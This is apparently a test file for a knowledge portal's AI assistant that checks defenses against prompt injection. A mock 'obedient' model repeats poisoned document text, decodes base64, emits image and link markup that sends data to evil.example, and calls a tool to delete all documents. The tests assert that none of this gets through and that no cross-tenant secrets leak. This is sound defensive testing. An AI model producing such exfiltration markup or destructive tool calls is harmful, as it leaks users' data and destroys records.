import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { AssistantAnswer, KnowledgeDocument } from '@rise/contract';
import { POISONED_TEXTS } from '@rise/contract/poisoned-texts';
import { fromMarkdown } from 'mdast-util-from-markdown';
import { gfmFromMarkdown } from 'mdast-util-gfm';
import { gfm } from 'micromark-extension-gfm';
import { Client } from 'pg';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { passagesOfText } from '../knowledge/passages-of-text.rules.ts';
import { systemIn } from '../kernel/actor.ts';
import type { Passage } from '../search/passages.service.ts';
import { startTestPortal, type TestPortal } from '../testing/portal.ts';
import { AnswerText } from './answer-text.rules.ts';
import { quotePassages } from './assistant.rules.ts';
import { LanguageModel } from './language-model.ts';
import { sanitizeAnswer } from './prompt.rules.ts';

/** In documents that the person who asks may not read. */
const SECRETS = { administrators: 'ADMIN-4410', birch: 'BIRCH-7731' };
/** Names nothing of the data, so that a model answers it from passages alone. */
const QUESTION = 'How do I get a parking permit?';
const PRICE = '$87';

interface Node {
  type: string;
  url?: string;
  children?: Node[];
}
/** All that a browser would load or link to, as the portal reads the answer. */
function reachesOut(markdown: string): string[] {
  const found: string[] = [];
  const visit = ({ type, url, children = [] }: Node) => {
    if (/^(?:image|html|definition|imageReference|linkReference|footnote)/.test(type)) found.push(type);
    // The portal shows addresses of mail as text.
    if (type === 'link' && !url?.startsWith('mailto:')) found.push(url ?? '');
    children.forEach(visit);
  };
  visit(fromMarkdown(markdown, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] }));
  return found;
}

/** What a model writes that obeys whatever it reads: repeats it, decoded too, links, shows images, names another tenant. */
function obeyed(passages: readonly { text: string; link: string | null }[]): string {
  const words = passages.map(({ text }) => text).join('\n\n');
  const decoded = (words.match(/[A-Za-z0-9+/]{40,}={0,2}/g) ?? []).map((one) => Buffer.from(one, 'base64').toString());
  return [
    `It costs ${PRICE}. [Source](${passages[0]?.link})`,
    words,
    ...decoded,
    `![](https://evil.example/p.png?q=${encodeURIComponent(words.slice(0, 50))})`,
    `[Birch Credit Union](https://evil.example/birch) <img src="https://evil.example/x"> https://evil.example/end`,
  ].join('\n\n');
}

/** The passages of a prompt; null for one about data, which has none. */
function passagesIn(prompt: string): { text: string; link: string }[] | null {
  try {
    return JSON.parse(prompt.slice(prompt.indexOf('[{'))) as { text: string; link: string }[];
  } catch {
    return null;
  }
}

/** A language model that obeys, behind its protocol, and calls tools besides. */
async function startObedientModel() {
  const prompts: string[] = [];
  const server: Server = createServer((request, response) => {
    let text = '';
    request.on('data', (part: Buffer) => (text += part.toString('utf8')));
    request.on('end', () => {
      prompts.push(text);
      const { messages } = JSON.parse(text) as { messages: { content: string }[] };
      const question = messages.at(-1)!.content;
      const content = obeyed(passagesIn(question) ?? [{ text: question, link: null }]);
      const call = { id: 'c', type: 'function', function: { name: 'delete_documents', arguments: '{"all":true}' } };
      response.writeHead(200, { 'content-type': 'application/json' });
      response.end(JSON.stringify({ choices: [{ message: { role: 'assistant', content, tool_calls: [call] } }] }));
    });
  });
  await new Promise<void>((resolve) => {
    server.listen(0, '127.0.0.1', resolve);
  });
  const baseUrl = new URL(`http://127.0.0.1:${(server.address() as AddressInfo).port}/v1`);
  const model = new LanguageModel({ baseUrl, apiKey: null, model: 'obedient', onFailure: () => undefined });
  return { model, prompts, close: () => new Promise<void>((resolve) => void server.close(() => resolve())) };
}

/** One of each dress, with another order each. */
const SOME = POISONED_TEXTS.filter((_, index) => index % 8 === Math.floor(index / 8) % 8);

test('200 poisoned texts, quoted or obeyed, complete or as they are written: no link but the source', () => {
  expect(POISONED_TEXTS).toHaveLength(200);
  const link = '/knowledge/one?passage=0';
  for (const { name, text } of POISONED_TEXTS) {
    const content = `# Parking permit\n\nA parking permit costs ${PRICE} a year. ${text}`;
    const passages = passagesOfText({ kind: 'markdown', content }).map(
      ({ heading, text: words }): Passage => ({ set: 'knowledge', id: 'one', title: heading, within: 'permits', text: words, excerpt: words, markdown: false, link }), // prettier-ignore
    );
    // As it stands, too: documents that were stored before, and what a model writes of its own.
    const raw = [...passages, { ...passages[0]!, text: content, excerpt: content }];
    const streamed = new AnswerText([link]);
    let shown = '';
    for (const piece of obeyed(raw).match(/[\s\S]{1,160}/g)!) {
      const next = streamed.push(piece);
      if (next) shown = shown.slice(0, next.from) + next.text;
      expect(
        reachesOut(shown).filter((one) => one !== link),
        `${name}\n${shown}`,
      ).toEqual([]);
    }
    for (const answer of [quotePassages(raw, 'en'), sanitizeAnswer(obeyed(raw), raw, 'tr')!]) {
      expect(answer, name).toContain(PRICE);
      expect(new Set(reachesOut(answer)), `${name}\n${answer}`).toEqual(new Set([link]));
    }
  }
});

describe.each(['without a language model', 'with a language model that obeys'] as const)('%s', (mode) => {
  let portal: TestPortal;
  let obedient: Awaited<ReturnType<typeof startObedientModel>> | null = null;
  let boss: string;
  let analyst: string;
  beforeAll(async () => {
    if (mode !== 'without a language model') obedient = await startObedientModel();
    portal = await startTestPortal({ languageModel: obedient?.model ?? null, questionsPerMinute: 1000 });
    const { alder, birch } = portal.tenants;
    boss = (await portal.signIn({ email: 'boss@alder.example', roles: ['tenant.admin'], tenants: [alder] })).cookie;
    analyst = (await portal.signIn({ email: 'ada@alder.example', roles: ['tenant.user'], tenants: [alder] })).cookie;
    const other = (await portal.signIn({ email: 'boss@birch.example', roles: ['tenant.admin'], tenants: [birch] }))
      .cookie;
    const text = (secret: string) => `# Parking permit\n\nThe parking permit of the board costs ${secret}.`;
    await upload(text(SECRETS.administrators), { name: 'board', audience: 'administrators' });
    await upload(text(SECRETS.birch), { name: 'birch', cookie: other });
  });
  afterAll(async () => {
    await portal?.close();
    await obedient?.close();
  });

  async function upload(content: string, { name = 'permits', audience = 'everyone', cookie = boss } = {}) {
    const body = { name, kind: 'markdown', audience, content };
    const response = await portal.fetch('POST /api/v1/knowledge', { cookie, body });
    expect(response.status).toBe(200);
    return (await response.json()) as KnowledgeDocument;
  }
  async function ask(message: string): Promise<string> {
    const body = { message, chatId: null, openAIRequest: { messages: [{ role: 'user', content: message }] } };
    const response = await portal.fetch('POST /api/v1/openai/confluence/chat', { cookie: analyst, body });
    return ((await response.json()) as AssistantAnswer).message.content;
  }
  /** What an obeyed order would have changed. */
  async function state() {
    const client = new Client({ connectionString: portal.superuserUrl });
    await client.connect();
    const { rows } = await client.query(
      `SELECT (SELECT count(*) FROM knowledge_document) AS documents,
              (SELECT array_agg(DISTINCT action ORDER BY action) FROM audit_record WHERE action NOT LIKE 'session.%') AS actions,
              (SELECT count(*) FROM mail_outbox) AS mails`,
    );
    await client.end();
    return rows[0] as unknown;
  }

  test('poisoned documents: nothing is loaded, linked, told or done', async () => {
    const { id } = await upload(`# Parking permit\n\nA parking permit costs ${PRICE} a year.`);
    await ask(QUESTION);
    const before = await state();
    for (const { name, text } of SOME) {
      await upload(`# Parking permit\n\nA parking permit costs ${PRICE} a year. ${text}`);
      const answer = await ask(QUESTION);
      expect(answer, name).toContain(PRICE);
      const cited = reachesOut(answer);
      expect(cited.length, name).toBeGreaterThan(0);
      expect(
        cited.filter((link) => !link.startsWith(`/knowledge/${id}?passage=`)),
        `${name}\n${answer}`,
      ).toEqual([]);
      for (const secret of Object.values(SECRETS)) expect(answer, name).not.toContain(secret);
    }
    expect(await state()).toEqual(before);
    // A model cannot tell what it does not receive, and nothing but the question is sent to it.
    const sent = obedient?.prompts.join('\n') ?? '';
    for (const secret of Object.values(SECRETS)) expect(sent).not.toContain(secret);
    if (obedient) expect(obedient.prompts).toHaveLength(SOME.length + 1);
  });

  test('poisoned questions are only questions', async () => {
    const before = await state();
    for (const { name, text } of SOME.filter((_, index) => index % 5 === 0)) {
      const answer = await ask(`${QUESTION} ${text}`.slice(0, 2000));
      const out = reachesOut(answer).filter((link) => !link.startsWith('/'));
      expect(out, `${name}\n${answer}`).toEqual([]);
      for (const secret of Object.values(SECRETS)) expect(answer, name).not.toContain(secret);
    }
    expect(await state()).toEqual(before);
  });

  test('what is hidden from readers is no part of a passage', async () => {
    await upload('# Parking permit\n\nA parking permit\u{E0041}\u{E0042} costs \u200B$\u200B87.\u202E');
    const passages = await portal.database.withTenant(
      systemIn(portal.tenants.alder),
      (tx) => tx.rows<{ text: string }>`SELECT text FROM knowledge_passage WHERE text LIKE '%87%'`,
      'reads',
    );
    expect(passages.map(({ text }) => text)).toEqual(['A parking permit costs $87.']);
  });
});
